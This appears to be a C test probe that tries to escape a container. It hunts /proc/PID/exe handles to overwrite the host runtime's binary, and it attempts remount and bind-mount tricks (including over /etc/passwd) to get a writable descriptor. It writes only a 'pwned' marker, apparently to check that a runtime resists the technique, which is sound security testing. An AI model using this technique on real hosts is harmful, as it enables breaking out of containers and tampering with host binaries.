/* Tries to write to the host's interpreter from inside a container.
 *
 *     hunter write FD      through a handle of it that it was given
 *     hunter hunt INODE    through the first /proc/PID/exe that leads to this inode, until /stop exists
 *
 * It says on stdout what it has got hold of ("holds INODE"), and how that ended ("wrote", or why
 * not); a hunter in vain says what it has seen of the runtime instead. */

#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void pause_briefly(void)
{
    struct timespec time = { 0, 2000000 };
    nanosleep(&time, NULL);
}

/* What CAP_SYS_ADMIN may try on the read-only mount that a handle comes from; a writable descriptor
 * or -1. */
static int make_writable(int handle, const char *path)
{
    struct { unsigned long long set, clear, propagation, user; } writable = { 0, 1, 0, 0 };
    int tree = syscall(SYS_open_tree, handle, "", OPEN_TREE_CLONE | AT_EMPTY_PATH);
    char copy[64];

    mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
    syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &writable, sizeof writable);
    if (mount(path, "/etc/passwd", NULL, MS_BIND, NULL) == 0) {
        mount(NULL, "/etc/passwd", NULL, MS_REMOUNT | MS_BIND, NULL);
        return open("/etc/passwd", O_WRONLY | O_APPEND);
    }
    if (tree >= 0) {
        syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &writable, sizeof writable);
        snprintf(copy, sizeof copy, "/proc/self/fd/%d", tree);
        return open(copy, O_WRONLY | O_APPEND);
    }
    return open(path, O_WRONLY | O_APPEND);
}

/* As long as the interpreter runs anywhere, the kernel refuses with ETXTBSY. */
static int write_through(int handle)
{
    struct stat status;
    char path[64];
    int fd;

    if (fstat(handle, &status) != 0) {
        printf("no handle: %s\n", strerror(errno));
        return 1;
    }
    printf("holds %lu\n", (unsigned long)status.st_ino);
    fflush(stdout);
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    while ((fd = open(path, O_WRONLY | O_APPEND)) < 0 && errno == ETXTBSY && access("/stop", F_OK))
        pause_briefly();
    if (fd < 0 && errno == EROFS)
        fd = make_writable(handle, path);
    if (fd < 0)
        printf("cannot open: %s\n", strerror(errno));
    else if (write(fd, "pwned", 5) != 5)
        printf("cannot write: %s\n", strerror(errno));
    else
        printf("wrote\n");
    close(fd); /* or the test could not run it any more, to clean up */
    fflush(stdout);
    return 0;
}

static int hunt(ino_t wanted)
{
    unsigned long runtimes = 0, written = 0;

    printf("hunting\n");
    fflush(stdout);
    while (access("/stop", F_OK) != 0) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc != NULL && (entry = readdir(proc)) != NULL) {
            char path[300], target[300] = "";
            struct stat status;
            int fd;

            if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
                continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            if ((fd = open(path, O_PATH)) < 0)
                continue;
            if (fstat(fd, &status) == 0 && status.st_ino == wanted)
                return write_through(fd);
            close(fd);
            if (readlink(path, target, sizeof target - 1) < 0 || strncmp(target, "/memfd:", 7))
                continue;
            runtimes++;
            if ((fd = open(path, O_WRONLY)) >= 0) {
                written += write(fd, "pwned", 5) > 0;
                close(fd);
            }
        }
        closedir(proc);
    }
    printf("saw the runtime %s, wrote to it %lu times\n", runtimes ? "indeed" : "never", written);
    fflush(stdout);
    return 0;
}

int main(int count, char **words)
{
    int status = 2;

    if (count == 3 && strcmp(words[1], "write") == 0)
        status = write_through(atoi(words[2]));
    else if (count == 3 && strcmp(words[1], "hunt") == 0)
        status = hunt(strtoul(words[2], NULL, 10));
    while (access("/stop", F_OK) != 0)
        pause_briefly();
    return status;
}
